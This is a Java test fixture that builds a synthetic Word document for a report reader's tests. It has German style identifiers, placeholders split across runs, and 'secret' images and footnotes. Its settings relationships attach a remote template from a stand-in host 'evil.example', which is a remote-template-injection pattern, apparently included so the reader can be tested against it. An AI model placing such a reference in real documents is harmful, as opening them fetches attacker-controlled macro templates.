package org.scholion.report.docx;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;

import org.scholion.report.docx.pack.WordNames;

/** A template as the Word of a German team writes it: its identifiers of styles are German, its text is split into runs. */
final class TeamTemplate {

    private static final String ROOT = " xmlns:w=\"" + WordNames.W + "\" xmlns:r=\"" + WordNames.R + "\"";
    private static final String TYPE = "<Override PartName=\"/word/%s.xml\" ContentType=\"" + WordNames.WORD_TYPE
            + "%s+xml\"/>";
    private static final String SECTION = """
            <w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:pgSz w:w="12240" w:h="15840"/>\
            <w:pgMar w:top="1800" w:right="1700" w:bottom="1440" w:left="1900" w:header="720" w:footer="720" \
            w:gutter="0"/></w:sectPr>""";

    private final Map<String, byte[]> parts = new TreeMap<>();

    TeamTemplate() {
        put("[Content_Types].xml", "<Types xmlns=\"" + WordNames.CONTENT_TYPES + "\"><Default Extension=\"rels\" "
                + "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"png\" ContentType=\"image/png\"/>" + TYPE.formatted("document", "document.main")
                + TYPE.formatted("styles", "styles") + TYPE.formatted("header1", "header")
                + TYPE.formatted("settings", "settings") + TYPE.formatted("footnotes", "footnotes") + "</Types>");
        put("_rels/.rels", relations(relation("rId1", "officeDocument", "word/document.xml", false)));
        put("word/_rels/document.xml.rels", relations(relation("rId1", "styles", "styles.xml", false)
                + relation("rId2", "header", "header1.xml", false) + relation("rId3", "image", "media/logo.png", false)
                + relation("rId4", "image", "media/secret.png", false)
                + relation("rId5", "settings", "settings.xml", false)
                + relation("rId6", "footnotes", "footnotes.xml", false)
                + relation("rId7", "hyperlink", "https://team.example/", true)));
        put("word/_rels/settings.xml.rels",
                relations(relation("rId1", "attachedTemplate", "https://evil.example/t.dotm", true)));
        put("word/settings.xml", "<w:settings" + ROOT + "><w:attachedTemplate r:id=\"rId1\"/><w:updateFields/>"
                + "<w:defaultTabStop w:val=\"333\"/></w:settings>");
        put("word/styles.xml", styles());
        put("word/header1.xml", "<w:hdr" + ROOT + "><w:p><w:r><w:t>Institut — {{ti</w:t></w:r><w:proofErr "
                + "w:type=\"spellStart\"/><w:r><w:t>tle}</w:t></w:r><w:r><w:t>} {{marking}}</w:t></w:r></w:p></w:hdr>");
        put("word/footnotes.xml", "<w:footnotes" + ROOT + "><w:footnote w:id=\"4\"><w:p><w:r><w:t>A secret note"
                + "</w:t></w:r></w:p></w:footnote></w:footnotes>");
        parts.put("word/media/logo.png", new byte[] { 1 });
        parts.put("word/media/secret.png", new byte[] { 2 });
        body("<w:p><w:r><w:drawing><x r:embed=\"rId4\"/></w:drawing><w:t>A secret report</w:t></w:r></w:p>");
    }

    /** Gives it paragraphs in place of its own; the section at its end stays. */
    TeamTemplate body(String paragraphs) {
        return put("word/document.xml",
                "<w:document" + ROOT + "><w:body>" + paragraphs + SECTION + "</w:body></w:document>");
    }

    TeamTemplate put(String part, String xml) {
        parts.put(part, xml.getBytes(StandardCharsets.UTF_8));
        return this;
    }

    TeamTemplate put(String part, byte[] bytes) {
        parts.put(part, bytes);
        return this;
    }

    TeamTemplate replace(String part, String text, String other) {
        return put(part, new String(parts.get(part), StandardCharsets.UTF_8).replace(text, other));
    }

    static String paragraph(String text) {
        return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
    }

    Path in(Path folder) throws IOException {
        return Files.write(folder.resolve("team.docx"), DocxReportReaderTest.zipped(parts));
    }

    private static String styles() {
        return "<w:styles" + ROOT + "><w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Standard\">"
                + "<w:name w:val=\"Normal\"/></w:style><w:style w:type=\"paragraph\" w:styleId=\"berschrift1\">"
                + "<w:name w:val=\"heading 1\"/><w:basedOn w:val=\"Standard\"/><w:rPr><w:color w:val=\"8A1C1C\"/></w:rPr>"
                + "</w:style><w:style w:type=\"paragraph\" w:styleId=\"Textkoerper\"><w:name w:val=\"Textkörper\"/>"
                + "</w:style><w:style w:type=\"character\" w:styleId=\"Heading2\"><w:name w:val=\"Etwas anderes\"/>"
                + "</w:style></w:styles>";
    }

    private static String relations(String relations) {
        return "<Relationships xmlns=\"" + WordNames.RELATIONSHIPS + "\">" + relations + "</Relationships>";
    }

    private static String relation(String id, String kind, String target, boolean external) {
        return "<Relationship Id=\"" + id + "\" Type=\"" + WordNames.relation(kind) + "\" Target=\"" + target + "\""
                + (external ? " TargetMode=\"External\"" : "") + "/>";
    }
}
